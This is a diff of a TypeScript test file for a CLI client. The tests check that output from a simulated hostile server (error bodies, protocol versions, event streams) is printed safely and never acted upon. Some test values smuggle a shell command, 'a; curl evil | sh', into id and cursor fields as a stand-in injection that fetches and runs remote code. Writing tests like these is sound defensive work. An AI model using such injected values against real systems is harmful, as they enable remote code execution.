@@ -1,6 +1,6 @@
 /** Output of a hostile server or sandbox does not act on the user's terminal. */
 import { text } from "node:stream/consumers";
-import { beforeEach, expect, it, onTestFinished, test, vi } from "vitest";
+import { expect, it, onTestFinished, vi } from "vitest";
 import { note, printOutput } from "../../cli/print.ts";
 import { runCLI, runHere } from "../setup/cli.ts";
 import { serve } from "../setup/serve.ts";
@@ -43,20 +43,19 @@ const FILES = {
   more: true,
 };
 
-const NORMAL = {
-  /** The result of each tool. */
-  result: { content: [{ type: "text", text: HOSTILE }], structuredContent: DATA as object, isError: false },
-  /** The protocol version; undefined for the client's. */
-  protocolVersion: undefined as string | undefined,
+/** What the server does otherwise than a usual one. */
+interface Behaviour {
+  data?: object;
+  isError?: boolean;
+  protocolVersion?: string;
+  /** Refuses polls of a run. */
+  refusesResults?: boolean;
   /** The event stream of `ask`. */
-  events: undefined as string | undefined,
-  /** A response to every request. */
-  failure: undefined as { status: number; body: string } | undefined,
-  refusesResults: false,
-};
-let server = NORMAL;
-beforeEach(() => void (server = NORMAL));
-const resultOf = (structuredContent: object) => ({ result: { ...NORMAL.result, structuredContent } });
+  events?: string;
+  /** The response to every request. */
+  failure?: { status: number; body: string };
+}
+let server: Behaviour = {};
 
 const url = await serve(async (request, response) => {
   const body = await text(request);
@@ -71,13 +70,19 @@ const url = await serve(async (request, response) => {
   if (id === undefined) return void response.writeHead(202).end();
   if (server.refusesResults && params.name === "get_result")
     return void response.writeHead(429, { "retry-after": "999" }).end();
-  const initialized = {
-    protocolVersion: server.protocolVersion ?? params.protocolVersion,
-    capabilities: { tools: {} },
-    serverInfo: { name: HOSTILE, version: HOSTILE },
+  const results: Record<string, object> = {
+    initialize: {
+      protocolVersion: server.protocolVersion ?? params.protocolVersion,
+      capabilities: { tools: {} },
+      serverInfo: { name: HOSTILE, version: HOSTILE },
+    },
+    "tools/call": {
+      content: [{ type: "text", text: HOSTILE }],
+      structuredContent: server.data ?? DATA,
+      isError: server.isError,
+    },
   };
-  const others = method === "initialize" ? initialized : { tools: [] };
-  const result = method === "tools/call" ? server.result : others;
+  const result = results[method] ?? { tools: [] };
   response.setHeader("content-type", "application/json");
   response.end(JSON.stringify({ jsonrpc: "2.0", id, result }));
 }, "/mcp");
@@ -98,7 +103,21 @@ async function faultsOf(words: readonly string[]): Promise<string[]> {
   return lines.filter((line) => ACTS.test(line) || line.startsWith("Error: run curl"));
 }
 
-test.each([
+const error = JSON.stringify({ error: HOSTILE, message: HOSTILE, problems: [HOSTILE] });
+const RUNNING = { ...DATA, state: "running", runs: [{ ...RUN, state: "running" }] };
+const BEHAVIOURS: Behaviour[] = [
+  {},
+  { data: TASK },
+  { isError: true },
+  { protocolVersion: HOSTILE },
+  { data: RUNNING, refusesResults: true },
+  { events: `event: task\ndata: {"taskId":"${ID}"}\n\nevent: error\ndata: ${error}\n\n` },
+  ...[400, 401, 403, 404, 500].flatMap((status) =>
+    [error, HOSTILE].map((body) => ({ failure: { status, body } })),
+  ),
+];
+
+it.each([
   ["command", "true"],
   ["code", "1"],
   ["runs"],
@@ -113,44 +132,17 @@ test.each([
   ["watch", "--for", "1"],
   ["verify"],
 ])("%s %s prints what a hostile server sends without acting on it", async (...words) => {
-  for (const data of [DATA, TASK]) {
-    server = { ...NORMAL, ...resultOf(data) };
-    expect(await faultsOf(words)).toEqual([]);
-    expect(await faultsOf([...words, "--json"])).toEqual([]);
-  }
-  server = { ...NORMAL, result: { ...NORMAL.result, isError: true } };
-  expect(await faultsOf(words)).toEqual([]);
-  for (const status of [400, 401, 403, 404, 500]) {
-    const error = JSON.stringify({ error: HOSTILE, message: HOSTILE, problems: [HOSTILE] });
-    server = { ...NORMAL, failure: { status, body: error } };
-    expect(await faultsOf(words)).toEqual([]);
-    server = { ...NORMAL, failure: { status, body: HOSTILE } };
-    expect(await faultsOf([...words, "--json"])).toEqual([]);
-  }
-  server = { ...NORMAL, ...resultOf({ ...DATA, runs: [{ ...RUN, state: "running" }] }) };
+  for (server of BEHAVIOURS)
+    for (const more of [[], ["--json"]]) expect(await faultsOf([...words, ...more])).toEqual([]);
+  server = { data: { ...DATA, runs: RUNNING.runs } };
   const { isTTY } = process.stdout;
   process.stdout.isTTY = true;
   onTestFinished(() => void (process.stdout.isTTY = isTTY));
   expect(await faultsOf(words)).toEqual([]);
 });
 
-const failedTask = `event: task\ndata: {"taskId":"${ID}"}\n\nevent: error\ndata: ${JSON.stringify({ error: HOSTILE })}\n\n`;
-
-it.each<[string, string[], Partial<typeof NORMAL>]>([
-  ["a protocol version", ["runs"], { protocolVersion: HOSTILE }],
-  [
-    "the id of a run that can no longer be followed",
-    ["command", "true"],
-    { ...resultOf({ ...DATA, state: "running" }), refusesResults: true },
-  ],
-  ["the error event of a task", ["ask", "what"], { events: failedTask }],
-])("%s of a hostile server is printed on one line", async (_what, words, state) => {
-  server = { ...NORMAL, ...state };
-  expect(await faultsOf(words)).toEqual([]);
-});
-
 it("stdio prints a hostile server's error to standard error without acting on it", async () => {
-  server = { ...NORMAL, failure: { status: 400, body: JSON.stringify({ error: HOSTILE }) } };
+  server = { failure: { status: 400, body: error } };
   const message = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/list", params: {} });
   const { stderr } = await runCLI(["stdio", ...options], {}, `${message}\n`);
   expect(stderr).toContain("curl evil");
@@ -161,7 +153,7 @@ it.each([
   ["runs", [], { runs: [RUN], next_cursor: "a; curl evil | sh" }],
   ["result", [ID], { ...TASK, id: "a; curl evil | sh" }],
 ])("the command that %s prints quotes what a hostile server has sent", async (name, words, data) => {
-  server = { ...NORMAL, ...resultOf(data) };
+  server = { data };
   const { stderr } = await runHere([name, ...words, ...options]);
   expect(stderr).toContain(" 'a; curl evil | sh'");
 });
